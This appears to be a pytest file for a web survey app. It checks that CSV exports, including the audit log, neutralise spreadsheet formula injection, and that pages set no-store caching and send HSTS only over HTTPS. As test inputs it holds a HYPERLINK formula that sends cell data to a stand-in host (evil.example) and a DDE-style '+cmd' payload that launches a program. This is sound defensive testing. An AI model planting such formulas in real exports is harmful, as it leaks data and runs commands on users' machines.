"""Issue 15, access and abuse: every CSV export neutralises formula injection (OWASP: prefix cells that
start with = + - @ tab CR with a quote), the audit log's included; pages are Cache-Control: no-store;
HSTS is sent when the service is served over HTTPS and not otherwise."""

import io

import pandas as pd
from fastapi.testclient import TestClient

from joinedup.web.app import create_app
from joinedup.web.config import WebSettings
from joinedup.web.security import token_csrf
from tests.test_web_admin import _setup, client  # noqa: F401  (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_exports_neutralise_formulas(client):  # noqa: F811
    _setup(client)
    ctx = client.app.state.ctx
    token = ctx.store.issue_tokens(1)["p1"]
    r = client.post(f"/s/{token}/autosave", data={"csrf": token_csrf(ctx.settings.secret, token),
                                                  "achievements": HOSTILE})
    assert r.status_code == 204
    ctx.store.audit("@evil", "note", "+cmd|' /C calc'!A0")
    responses = pd.read_csv(io.StringIO(client.get("/admin/export/responses.csv").text), dtype=str)
    assert responses.loc[responses["panelist_id"] == "p1", "achievements"].iloc[0] == "'" + HOSTILE
    audit = pd.read_csv(io.StringIO(client.get("/admin/export/audit.csv").text), dtype=str)
    assert "'@evil" in audit["actor"].tolist() and "'+cmd|' /C calc'!A0" in audit["detail"].tolist()
    for name in ("responses", "invitations", "codebook", "audit"):
        text = client.get(f"/admin/export/{name}.csv").text
        cells = [c for row in pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).itertuples(index=False)
                 for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name


def test_no_store_on_pages_and_hsts_only_over_https(client, tmp_path):  # noqa: F811
    _setup(client)
    token = client.app.state.ctx.store.issue_tokens(1)["p1"]
    for path in ("/admin", "/admin/login", f"/s/{token}", "/admin/export/responses.csv"):
        r = client.get(path)
        assert r.headers["Cache-Control"] == "no-store", path
        assert r.headers["Strict-Transport-Security"].startswith("max-age="), path  # base_url is https
    plain = TestClient(create_app(WebSettings(store_url=f"sqlite:///{tmp_path / 'plain.db'}")))
    r = plain.get("/admin/login")
    assert r.headers["Cache-Control"] == "no-store" and "Strict-Transport-Security" not in r.headers
